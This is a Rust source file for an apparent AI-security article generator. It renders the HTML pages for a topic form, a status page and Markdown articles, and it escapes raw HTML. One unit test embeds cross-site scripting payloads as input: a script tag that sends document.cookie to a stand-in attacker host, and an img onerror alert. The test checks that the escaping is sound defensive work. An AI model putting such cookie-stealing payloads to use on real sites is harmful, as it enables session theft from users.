//! Server-rendered HTML for the browser pages.

use crate::status::StatusSnapshot;
use percent_encoding::{AsciiSet, CONTROLS, utf8_percent_encode};
use pulldown_cmark::{Event, Options, Parser, html};

/// Characters that cannot appear raw in a single URL path segment.
const PATH_SEGMENT: &AsciiSet = &CONTROLS
    .add(b' ')
    .add(b'"')
    .add(b'#')
    .add(b'%')
    .add(b'/')
    .add(b'<')
    .add(b'>')
    .add(b'?')
    .add(b'\\')
    .add(b'`')
    .add(b'{')
    .add(b'}');

const STYLE: &str = r#"
    body {
        font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif;
        max-width: 860px;
        margin: 40px auto;
        padding: 0 20px;
        background: #1a1a2e;
        color: #eee;
        line-height: 1.6;
    }
    h1, h2, h3 { color: #4ade80; }
    a { color: #60a5fa; }
    label { display: block; margin-top: 16px; }
    select, input { width: 100%; padding: 8px; margin-top: 4px; box-sizing: border-box; }
    button { margin-top: 20px; padding: 10px 24px; background: #4ade80; border: 0; cursor: pointer; }
    pre, code { background: #2a2a4e; border-radius: 4px; }
    pre { padding: 12px; overflow-x: auto; }
    .error { color: #f87171; }
    .muted { color: #9ca3af; }
"#;

pub fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// Link to the rendered article stored as `filename`.
pub fn view_href(filename: &str) -> String {
    format!("/view/{}", utf8_percent_encode(filename, PATH_SEGMENT))
}

/// Renders Markdown, emitting any raw HTML in the source as escaped text.
pub fn markdown_to_html(markdown: &str) -> String {
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);

    let events = Parser::new_ext(markdown, options).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        event => event,
    });

    let mut out = String::new();
    html::push_html(&mut out, events);
    out
}

fn layout(title: &str, head_extra: &str, body: &str) -> String {
    format!(
        "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>{}</title>\n{}<style>{}</style>\n</head>\n<body>\n{}\n</body>\n</html>\n",
        escape_html(title),
        head_extra,
        STYLE,
        body
    )
}

/// Topic picker with a free-text override and a target length.
pub fn index(topics: &[String]) -> String {
    let options: String = topics
        .iter()
        .map(|topic| {
            let topic = escape_html(topic);
            format!("<option value=\"{}\">{}</option>", topic, topic)
        })
        .collect();

    let body = format!(
        r#"<h1>AI Security Content Generator</h1>
<form method="post" action="/generate">
  <label>Topic
    <select name="topic"><option value="">-- choose a topic --</option>{}</select>
  </label>
  <label>Or enter a custom topic
    <input type="text" name="custom_topic" placeholder="e.g. Securing RAG pipelines">
  </label>
  <label>Target word count
    <input type="number" name="word_count" value="1000" min="1">
  </label>
  <button type="submit">Generate</button>
</form>
<p class="muted"><a href="/status">Current status</a></p>"#,
        options
    );
    layout("AI Security Content Generator", "", &body)
}

/// Refreshes itself while a run is in flight.
pub fn status(snapshot: &StatusSnapshot) -> String {
    let mut head = String::new();
    let body = if snapshot.in_progress {
        head.push_str("<meta http-equiv=\"refresh\" content=\"5\">\n");
        format!(
            "<h1>Generating...</h1>\n<p>Working on <strong>{}</strong>. This page refreshes every few seconds.</p>",
            escape_html(snapshot.current_topic.as_deref().unwrap_or(""))
        )
    } else if let Some(error) = &snapshot.error {
        format!(
            "<h1>Generation failed</h1>\n<p class=\"error\">{}</p>\n<p><a href=\"/\">Try again</a></p>",
            escape_html(error)
        )
    } else if let Some(result) = &snapshot.result {
        format!(
            "<h1>Done</h1>\n<p><strong>{}</strong> ({} words)</p>\n<p><a href=\"{}\">Read the article</a> | <a href=\"/\">Generate another</a></p>",
            escape_html(&result.topic),
            result.word_count,
            escape_html(&view_href(&result.filename))
        )
    } else {
        "<h1>Idle</h1>\n<p>No generation has run yet. <a href=\"/\">Start one</a></p>".to_string()
    };
    layout("Generation status", &head, &body)
}

pub fn article(filename: &str, markdown: &str) -> String {
    let body = format!(
        "<p class=\"muted\"><a href=\"/\">Home</a> | {}</p>\n<article>\n{}</article>",
        escape_html(filename),
        markdown_to_html(markdown)
    );
    layout(filename, "", &body)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::article::{GenerationResult, Topic};

    #[test]
    fn test_escape_html() {
        assert_eq!(
            escape_html("<script>alert('x') & \"y\"</script>"),
            "&lt;script&gt;alert(&#39;x&#39;) &amp; &quot;y&quot;&lt;/script&gt;"
        );
    }

    #[test]
    fn test_index_lists_topics() {
        let page = index(&["OWASP LLM Top 10".to_string(), "A <b> C".to_string()]);
        assert!(page.contains("<option value=\"OWASP LLM Top 10\">OWASP LLM Top 10</option>"));
        assert!(page.contains("A &lt;b&gt; C"));
        assert!(page.contains("name=\"custom_topic\""));
    }

    #[test]
    fn test_status_states() {
        let idle = status(&StatusSnapshot::default());
        assert!(idle.contains("Idle"));

        let running = status(&StatusSnapshot {
            in_progress: true,
            current_topic: Some("AI Bias Detection".to_string()),
            ..Default::default()
        });
        assert!(running.contains("http-equiv=\"refresh\""));
        assert!(running.contains("AI Bias Detection"));

        let topic = Topic::parse("AI Bias Detection").unwrap();
        let done = status(&StatusSnapshot {
            result: Some(GenerationResult::completed(&topic, "a b c".to_string())),
            ..Default::default()
        });
        assert!(done.contains("href=\"/view/ai_bias_detection.md\""));
        assert!(done.contains("(3 words)"));
        assert!(!done.contains("refresh"));
    }

    #[test]
    fn test_markdown_rendering() {
        let html = markdown_to_html("# Title\n\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        assert!(html.contains("<h1>Title</h1>"));
        assert!(html.contains("<li>item</li>"));
        assert!(html.contains("<table>"));
    }

    #[test]
    fn test_raw_html_is_escaped() {
        let html = markdown_to_html(
            "# Findings\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n\nInline <img src=x onerror=alert(1)> tag.\n",
        );
        assert!(!html.contains("<script"));
        assert!(!html.contains("<img"));
        assert!(html.contains("&lt;script&gt;"));
        assert!(html.contains("<h1>Findings</h1>"));
    }

    #[test]
    fn test_view_link_is_percent_encoded() {
        assert_eq!(view_href("c#_for_llm_apps.md"), "/view/c%23_for_llm_apps.md");
        assert_eq!(view_href("why?.md"), "/view/why%3F.md");
        assert_eq!(view_href("100%_safe.md"), "/view/100%25_safe.md");

        let topic = Topic::parse("C# for LLM apps").unwrap();
        let done = status(&StatusSnapshot {
            result: Some(GenerationResult::completed(&topic, "body".to_string())),
            ..Default::default()
        });
        assert!(done.contains("href=\"/view/c%23_for_llm_apps.md\""));
    }
}
